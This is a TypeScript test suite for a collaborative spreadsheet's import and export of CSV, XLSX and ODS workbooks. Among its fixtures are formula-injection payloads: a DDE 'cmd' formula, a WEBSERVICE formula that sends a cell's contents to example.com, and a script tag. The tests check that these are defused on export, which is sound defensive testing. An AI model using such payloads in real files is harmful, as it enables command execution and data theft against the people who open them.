import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { read } from '@e965/xlsx'
import iconv from 'iconv-lite'
import * as Y from 'yjs'
import { newBook, sheetsIn } from '@/domain/documents/sheets/bookState'
import { keptResults } from '@/domain/documents/sheets/keptResults'
import { writeCells } from '@/stores/documents/sheets/sheetEdits'
import { checkUpdate, prepareRoots } from '../../../server/services/documents/checkUpdate'
import {
  bookOf,
  everythingIn,
  excelOf,
  fileOf,
  formula,
  number,
  row,
  text,
  writtenCells,
} from '../../support/documents/books'
import { firstSheet, shownCells, writeCell } from '../../support/documents/sheetWriters'
import { openDocument } from '../../support/samples/office'
import { fullWorkbook } from '../../support/samples/workbooks'

const first = (document: Y.Doc) => writtenCells(firstSheet(document))
const keptOf = (document: Y.Doc) => document.getMap('meta').get(keptResults)

/** A new workbook with these cells, by rows. */
function written(rows: readonly (readonly string[])[]): Y.Doc {
  const document = new Y.Doc()
  Y.applyUpdate(document, newBook())
  for (const [at, cells] of rows.entries())
    for (const [column, cell] of cells.entries()) writeCell(document, at, column, cell)
  return document
}

describe('[DOC-07] a text with separated values becomes a workbook', () => {
  test('values are numbers, and whatever names somebody stays a text with all digits', async () => {
    const lines = [
      '姓名,证件,学号,电话,代码,分,率,价,真',
      '陈希,110101199003076512,00721,+8613800000000,12E3,90,12.5%,"1,234.50",TRUE',
      '李雷,6222021234567890,7-1,010-1234,1.5e-3,-3.10,.5,"a ""b""\n二",false',
    ]
    const document = await bookOf(`\ufeff${lines.join('\r\n')}\r\n`, 'csv')
    assert.deepEqual(first(document), [
      ['姓名', '证件', '学号', '电话', '代码', '分', '率', '价', '真'],
      ['陈希', '110101199003076512', '00721', '+8613800000000', "'12E3", '90', '12.5%', '1234.5', 'TRUE'],
      ['李雷', '6222021234567890', '7-1', '010-1234', '0.0015', '-3.1', '0.5', 'a "b"\n二', 'FALSE'],
    ])
    assert.equal(shownCells(document)[2]![5], '-3.10')
    assert.equal(shownCells(document)[1]![7], '1,234.5')
  })

  test('its encoding and separator are found as for the table preview', async () => {
    const content = iconv.encode('姓名;部门\n王珂;教务处\n李雷;后勤处\n', 'gb18030')
    assert.deepEqual(first(await bookOf(content, 'csv')), [
      ['姓名', '部门'],
      ['王珂', '教务处'],
      ['李雷', '后勤处'],
    ])
    assert.deepEqual(first(await bookOf('a\tb\n1\t2\n', 'tsv')), [
      ['a', 'b'],
      ['1', '2'],
    ])
  })

  test('a formula of a stranger stays a text', async () => {
    const document = await bookOf("=1+1,＝2,'=3,'tis,@SUM(1),-5%\n", 'csv')
    const values = Object.values(firstSheet(document).part('cells')!.toJSON()) as { v: unknown }[]
    assert.deepEqual(
      values.map(({ v }) => v),
      ['=1+1', '＝2', '=3', "'tis", '@SUM(1)', -0.05],
    )
  })
})

const styles = [
  '<numFmts count="2"><numFmt numFmtId="170" formatCode="&quot;¥&quot;#,##0.00"/><numFmt numFmtId="171" formatCode="00000"/></numFmts>',
  '<fonts count="3"><font><sz val="11"/></font><font><b/><sz val="11"/></font><font><sz val="11"/><color rgb="FFFF0000"/></font></fonts>',
  '<fills count="3"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>',
  '<fill><patternFill patternType="solid"><fgColor rgb="FFFFFF00"/></patternFill></fill></fills>',
  '<borders count="1"><border/></borders><cellXfs count="8"><xf numFmtId="0" fontId="0" fillId="0"/>',
  '<xf numFmtId="0" fontId="1" fillId="2" applyAlignment="1"><alignment horizontal="center"/></xf>',
  '<xf numFmtId="170" fontId="2" fillId="0"/><xf numFmtId="10" fontId="0" fillId="0"/><xf numFmtId="14" fontId="0" fillId="0"/>',
  '<xf numFmtId="171" fontId="0" fillId="0"/><xf numFmtId="2" fontId="0" fillId="0"/><xf numFmtId="3" fontId="0" fillId="0"/></cellXfs>',
].join('')

describe('[DOC-07] a workbook of Excel becomes a workbook', () => {
  test('it keeps sheets, values, formats, looks and widths', async () => {
    const rows = [
      row(1, ['t="inlineStr" s="1"', '<is><t>项</t></is>'], ['t="inlineStr"', '<is><t>数</t></is>'], ['s="1"', '']),
      row(2, number('1234.5', 's="2"'), number('0.125', 's="3"'), number('45352', 's="4"'), number('721', 's="5"')),
      row(3, number('2.5', 's="6"'), number('12345', 's="7"'), ['t="b"', '<v>1</v>'], ['t="e"', '<v>#N/A</v>']),
      row(4, number('110101199003076512'), text('007'), number('0.1')),
    ].join('')
    const col = (at: number, digits: number) =>
      `<col min="${at}" max="${at}" width="${digits + 5 / 7}" customWidth="1"/>`
    const before = `<cols>${col(1, 30)}${col(3, 6)}</cols>`
    const file = excelOf(
      [
        { name: '预算', rows, before },
        { name: '二', rows: row(1, text('第二张')) },
      ],
      styles,
    )
    const [one, two] = everythingIn(await bookOf(file, 'xlsx'))
    assert.deepEqual([one!.name, two!.name, two!.cells], ['预算', '二', [['第二张']]])
    assert.deepEqual(one!.cells, [
      ['项', '数'],
      ['1234.5', '12.5%', '2024/3/1', '00721'],
      ['2.5', '12345', 'TRUE', '#N/A'],
      ['110101199003076512', '007', '0.1'],
    ])
    assert.deepEqual(one!.styles, {
      'r1:c1': { bold: true, align: 'center', fill: 'yellow' },
      'r1:c3': { bold: true, align: 'center', fill: 'yellow' },
      'r2:c1': { color: 'red', format: 'grouped' },
      'r2:c2': { format: 'percent' },
      'r3:c1': { format: 'fixed' },
      'r3:c2': { format: 'grouped' },
    })
    // A digit of ours takes 8.5 px, and a cell 20 px beside its letters; a column without a width gets the usual one.
    assert.deepEqual(one!.widths.slice(0, 3), [275, null, 71])
  })

  test('a formula stays one where our engine computes the same; of all others the result stays, and their number is told', async () => {
    const rows = [
      row(1, number('1'), number('2'), formula('SUM(A1:B1)', '3'), formula('SUM($A$1:A99)', '45357')),
      row(2, number('4'), formula('二!A1', '7'), formula('VLOOKUP(A1,A1:B2,2,FALSE)', '2'), formula('A1+1', '99')),
      row(
        3,
        formula('TODAY()', '45352'),
        formula('IF(A1>0,"正","负")', '正', 't="str"'),
        formula('_xlfn.IFS(A1=1,"一")', '一', 't="str"'),
      ),
      row(
        4,
        formula('A1*2', ''),
        formula('SUM(A:A)', '45357'),
        ['', '<f t="shared" ref="C4:D4" si="0">A1+B1</f><v>3</v>'],
        ['', '<f t="shared" si="0"/><v>5</v>'],
      ),
    ].join('')
    const document = await bookOf(
      excelOf([
        { name: '一', rows },
        { name: '二', rows: row(1, number('7')) },
      ]),
      'xlsx',
    )
    assert.deepEqual(first(document), [
      ['1', '2', '=SUM(A1:B1)', '=SUM($A$1:A99)'],
      ['4', '7', '=VLOOKUP(A1,A1:B2,2,FALSE)', '99'],
      ['45352', '=IF(A1>0,"正","负")', '=IFS(A1=1,"一")'],
      ['=A1*2', '=SUM(A:A)', '=A1+B1', '=B1+C1'],
    ])
    assert.equal(keptOf(document), 3)
  })

  test('rows and columns that do not scroll stay, also in the copy as Excel', async () => {
    const pane = (attributes: string) =>
      `<sheetViews><sheetView workbookViewId="0"><pane ${attributes}/></sheetView></sheetViews>`
    const rows = [1, 2, 3].map((at) => row(at, number('1'), number('2'))).join('')
    const file = excelOf([
      { name: '两', rows, before: pane('xSplit="1" ySplit="2" topLeftCell="B3" state="frozen"') },
      { name: '行', rows, before: pane('ySplit="1" state="frozen"') },
      { name: '分', rows, before: pane('ySplit="1" state="split"') },
    ])
    const frozen = (document: Y.Doc) =>
      sheetsIn(document).map((sheet) => sheet.frozen({ rows: sheet.rows(), columns: sheet.columns() }))
    const expected = [
      { rows: 2, columns: 1 },
      { rows: 1, columns: 0 },
      { rows: 0, columns: 0 },
    ]
    const document = await bookOf(file, 'xlsx')
    assert.deepEqual(frozen(document), expected)
    assert.deepEqual(frozen(await bookOf(await fileOf(document, 'xlsx'), 'xlsx')), expected)
  })

  test('hidden rows, columns and sheets are there, and files of older and other programs are read', async () => {
    for (const type of ['xlsx', 'biff8', 'ods'] as const) {
      const document = await bookOf(fullWorkbook(type), type === 'biff8' ? 'xls' : type)
      assert.deepEqual(
        sheetsIn(document).map(({ name }) => name),
        ['成绩', '藏', '二'],
        type,
      )
      const [, , marks, hidden, last] = first(document)
      assert.deepEqual(marks, ['王<script>alert(1)</script>', '2024-03-01', '12.5%', '202012345678901'], type)
      assert.deepEqual([hidden, last!.slice(0, 3)], [['藏'], ['李\n换行', '45353', '1234.5']], type)
    }
    const ods = openDocument(
      'spreadsheet',
      '<office:spreadsheet><table:table table:name="表"><table:table-row><table:table-cell office:value-type="string"><text:p>格</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>',
    )
    assert.deepEqual(first(await bookOf(ods, 'ods')), [['格']])
  })

  test('a text in several looks is whole, without the sounds of its characters', async () => {
    const parts =
      '<is><r><t xml:space="preserve">&#x1f61c; </t></r><r><rPr><b/></rPr><t>二_x000A_三</t></r><rPh sb="0" eb="1"><t>er</t></rPh></is>'
    const document = await bookOf(excelOf([{ name: 'a', rows: row(1, ['t="inlineStr"', parts]) }]), 'xlsx')
    assert.deepEqual(first(document), [['\u{1f61c} 二\n三']])
  })

  test('the editor takes what is made', async () => {
    const state = Y.encodeStateAsUpdate(await bookOf(excelOf([{ name: 'a', rows: row(1, number('1')) }]), 'xlsx'))
    const document = new Y.Doc()
    prepareRoots(document, 'yxls')
    assert.deepEqual(checkUpdate(document, 'yxls', state), { onlyDeletes: false, isNews: true })
  })

  test('more than a workbook holds is refused as a whole', async () => {
    const wide = `<row r="1"><c r="KP1"><v>1</v></c></row>`
    const long = `<row r="20001"><c r="A20001"><v>1</v></c></row>`
    const sheets = Array.from({ length: 51 }, (_, at) => ({ name: `s${at}`, rows: row(1, number('1')) }))
    const cases: [Buffer | string, string][] = [
      [excelOf([{ name: 'a', rows: wide }]), 'xlsx'],
      [excelOf([{ name: 'a', rows: long }]), 'xlsx'],
      [excelOf(sheets), 'xlsx'],
      [excelOf([{ name: 'a', rows: row(1, text('x'.repeat(10_001))) }]), 'xlsx'],
      ['1\n'.repeat(20_001), 'csv'],
      [`${'1,'.repeat(301)}1\n`, 'csv'],
      [`${'1,'.repeat(49)}1\n`.repeat(4001), 'csv'],
      ['x'.repeat(10_001), 'csv'],
    ]
    for (const [at, [content, extension]] of cases.entries())
      await assert.rejects(bookOf(content, extension), { reason: 'too_large' }, `${at}`)
  })

  test('colours and looks beyond the last filled cell make no room', async () => {
    const far = '<row r="30000"><c r="ZZ30000" s="1"/></row>'
    const document = await bookOf(excelOf([{ name: 'a', rows: row(1, number('1')) + far }], styles), 'xlsx')
    assert.deepEqual([firstSheet(document).rows().length, firstSheet(document).part('styles')!.size], [100, 0])
  })
})

describe('[DOC-07] a workbook is copied as Excel and as CSV', () => {
  test('Excel has values, formulas with results, looks, widths and names; and back again it is the same', async () => {
    const document = written([
      ['项', '数', '=SUM(B2:B3)', '=B2/B3', '=FOO(1)', "'=1+1"],
      ['桌', '1234.5', '12.5%', '-5', 'TRUE', "'007"],
      ['椅\n凳', '0', '110101199003076512', '=B3>0', '=IFS(B3=0,"零")', '=1+'],
    ])
    const sheet = firstSheet(document)
    document.transact(() => {
      writeCells(sheet, [
        { row: 'r1', column: 'c1', style: { bold: true, color: 'blue', fill: 'grey', align: 'right' } },
        { row: 'r2', column: 'c2', style: { format: 'grouped' } },
        { row: 'r2', column: 'c3', style: { format: 'percent' } },
        { row: 'r2', column: 'c4', style: { format: 'fixed' } },
      ])
      sheet.part('widths')!.set('c1', 180)
      sheet.map.set('name', '预算[一]/二')
    })
    const file = await fileOf(document, 'xlsx')
    const book = read(file, { cellFormula: true, cellNF: true })
    assert.deepEqual(book.SheetNames, ['预算-一--二'])
    const cells = book.Sheets['预算-一--二']!
    const shown = (name: string) => {
      const { t, v, f } = cells[name] as { t: string; v: unknown; f?: string }
      return [t, v, f]
    }
    assert.deepEqual(shown('C1'), ['n', 1234.5, 'SUM(B2:B3)'])
    assert.deepEqual(shown('D1'), ['e', 7, 'B2/B3'])
    assert.deepEqual(shown('E1'), ['s', '=FOO(1)', undefined])
    assert.deepEqual(shown('F1'), ['s', '=1+1', undefined])
    assert.deepEqual(shown('F3'), ['s', '=1+', undefined])
    assert.deepEqual(shown('E3'), ['s', '零', 'IFS(B3=0,"零")'])
    const { files } = read(file, { bookFiles: true }) as unknown as { files: Record<string, { content: Uint8Array }> }
    assert.match(String(Buffer.from(files['xl/worksheets/sheet1.xml']!.content)), /_xlfn\.IFS/)
    const [was, now] = [everythingIn(document)[0]!, everythingIn(await bookOf(file, 'xlsx'))[0]!]
    assert.deepEqual(now.cells, [
      ['项', '数', '=SUM(B2:B3)', '=B2/B3', "'=FOO(1)", "'=1+1"],
      was.cells[1],
      ['椅\n凳', '0', '110101199003076512', '=B3>0', '=IFS(B3=0,"零")', "'=1+"],
    ])
    assert.deepEqual([now.styles, now.widths[0]], [was.styles, 180])
  })

  test('a formula that Excel would run and that we do not know is never written as one', async () => {
    const dangerous = [
      '=WEBSERVICE("https://example.com/?"&A1)',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("https://example.com","a")',
      '=ROUND(1.5)',
      '=COUNTIF(5,1)',
    ]
    const document = written(dangerous.map((each) => [each]))
    const book = read(await fileOf(document, 'xlsx'), { cellFormula: true })
    for (const [at] of dangerous.entries()) {
      const cell = book.Sheets[book.SheetNames[0]!]![`A${at + 1}`] as { f?: string }
      assert.equal(cell.f, undefined, dangerous[at])
    }
    const lines = String(await fileOf(document, 'csv'))
    assert.doesNotMatch(lines, /(^|[,\n"])[=+@]/)
  })

  test('CSV has the first sheet with all digits, and nothing in it runs', async () => {
    const document = written([
      ['姓名', '110101199003076512', "'007", '12.5%', '-12.5%', '0.1', '=0.1+0.2'],
      ["'=1+1", "'+1", "'-cmd", "'@a", 'a,b', '引"号"', '二\n行', '-5', "'\t=1"],
    ])
    document.transact(() =>
      writeCells(firstSheet(document), [{ row: 'r1', column: 'c4', style: { format: 'percent' } }]),
    )
    const file = await fileOf(document, 'csv')
    assert.equal(
      String(file),
      '\ufeff姓名,110101199003076512,007,12.5%,-0.125,0.1,0.3\r\n' +
        `'=1+1,'+1,'-cmd,'@a,"a,b","引""号""","二\n行",-5,'\t=1\r\n`,
    )
    const back = shownCells(await bookOf(file, 'csv'))
    assert.deepEqual(back[1], ['=1+1', '+1', '-cmd', '@a', 'a,b', '引"号"', '二\n行', '-5', '\t=1'])
  })

  test('a workbook without a sheet, and an empty one, are copied', async () => {
    const document = written([])
    for (const isGone of [false, true]) {
      if (isGone) document.getArray('sheets').delete(0, 1)
      assert.equal(read(await fileOf(document, 'xlsx')).SheetNames.length, 1)
      assert.equal(String(await fileOf(document, 'csv')).trim(), '')
    }
  })
})
